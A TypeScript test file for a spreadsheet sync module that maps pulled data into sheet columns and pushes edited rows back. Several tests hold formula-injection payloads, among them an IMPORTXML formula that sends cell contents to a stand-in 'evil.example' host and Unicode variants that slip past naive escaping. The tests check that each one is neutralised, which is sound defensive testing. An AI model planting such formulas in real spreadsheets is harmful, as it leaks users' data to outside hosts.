// Pulled tabs into sheet columns, sheet rows into a push, computed values back: plain grids only.
import { describe, expect, it } from 'vitest'
import { columnRuns, computedBlocks, missingKeys, pulledBlocks, pushRows, toCell } from '../src/grid'
import { keyColumns } from '../src/layout'

const isoDay = (date: Date) => date.toISOString().slice(0, 10)

describe('columnRuns', () => {
  it('groups neighbouring columns so a tab in its own order is written in one call', () => {
    expect(columnRuns([1, 2, 3, 4])).toEqual([{ column: 1, width: 4 }])
    expect(columnRuns([5, 1, 2, 7, 6, 2])).toEqual([{ column: 1, width: 2 }, { column: 5, width: 3 }])
    expect(columnRuns([])).toEqual([])
  })
})

describe('pulledBlocks', () => {
  it('puts each pulled column under its key, wherever the manager moved it', () => {
    const keys = keyColumns(['name', '', 'code', 'm1'])
    const blocks = pulledBlocks(keys, { revision: 3, columns: ['code', 'name', 'm1', 'total'], rows: [['EA001', '南京路店', 100, 1200]] }, 0)
    expect(blocks).toEqual([
      { row: 3, column: 1, values: [['南京路店']] },
      { row: 3, column: 3, values: [['EA001', 100]] },
    ])
  })

  it('blanks rows left by a longer earlier pull, and keeps text that looks like a formula as text', () => {
    const keys = keyColumns(['code', 'description'])
    const blocks = pulledBlocks(keys, { revision: 0, columns: ['code', 'description'], rows: [['E1', '=HYPERLINK("x")'], ['E2', null]] }, 3)
    expect(blocks[0]!.values).toEqual([['E1', `'=HYPERLINK("x")`], ['E2', ''], ['', '']])
  })

  it('keeps every formula-looking text as text, by the CSV reports’ rule, and numbers as numbers', () => {
    const risky = ['+IMPORTXML("http://evil.example/?"&A1,"//a")', '-2+3', '@SUM(1)', ' =1', '\u3000=1', '\u200B+1', '\u202E@x', '\uFEFF-1', '＝1+1', '＋1', '－1', '＠x', '\n=1']
    const keys = keyColumns(['code', 'description', 'amount'])
    const data = { revision: 0, columns: ['code', 'description', 'amount'], rows: risky.map((text, i) => [`E${i}`, text, -12.5]) }
    const written = pulledBlocks(keys, data, 0)[0]!.values
    expect(written.map((row) => row[1])).toEqual(risky.map((text) => `'${text}`))
    expect(written.every((row) => row[2] === -12.5)).toBe(true)
    expect(pulledBlocks(keys, { ...data, rows: [['E1', '南京路店 2026-03', 0]] }, 0)[0]!.values).toEqual([['E1', '南京路店 2026-03', 0]])
  })
})

describe('pushRows', () => {
  const keys = keyColumns(['code', 'name', 'm1', 'm2', 'incurredOn'])
  const editable = ['code', 'm1', 'm2', 'incurredOn']

  it('sends every row with an editable cell filled, by sheet row, with every editable key', () => {
    const grid = [
      ['EA001', 'computed name', '1,200', '', ''],
      ['', 'only a computed cell', '', ' ', ''],
      ['EA002', '', 0, 5, new Date('2031-04-01T00:00:00Z')],
    ]
    expect(pushRows(keys, editable, grid, isoDay)).toEqual([
      { row: 3, values: { code: 'EA001', m1: '1,200', m2: null, incurredOn: null } },
      { row: 5, values: { code: 'EA002', m1: 0, m2: 5, incurredOn: '2031-04-01' } },
    ])
  })

  it('turns sheet values into cells the sync takes', () => {
    expect(toCell('', isoDay)).toBeNull()
    expect(toCell(true, isoDay)).toBe(true)
    expect(toCell(12.5, isoDay)).toBe(12.5)
  })

  it('names the editable keys the sheet has lost', () => {
    expect(missingKeys(keys, ['code', 'm1', 'm3'])).toEqual(['m3'])
  })
})

describe('computedBlocks', () => {
  it('writes the worker’s values on pushed rows and keeps the others', () => {
    const keys = keyColumns(['code', 'total', 'm1', 'rate', 'status'])
    const grid = [
      ['A', 10, 10, 0.5, 'draft'],
      ['B', 20, 20, 0.7, 'draft'],
    ]
    const blocks = computedBlocks(keys, ['total', 'rate', 'status'], [{ row: 4, values: { total: 25, rate: null } }], grid)
    expect(blocks).toEqual([
      { row: 3, column: 2, values: [[10], [25]] },
      { row: 3, column: 4, values: [[0.5, 'draft'], ['', 'draft']] },
    ])
    expect(computedBlocks(keys, ['total'], [], [])).toEqual([])
  })

  it('writes back kept text as text: getValues gives it without the quote mark it was entered with', () => {
    const keys = keyColumns(['code', 'name'])
    const grid = [
      ['A', '+IMPORTXML("http://evil.example","//a")'],
      ['B', '=1+1'],
    ]
    expect(computedBlocks(keys, ['name'], [{ row: 3, values: { name: '＠x' } }], grid)).toEqual([{ row: 3, column: 2, values: [["'＠x"], ["'=1+1"]] }])
  })
})
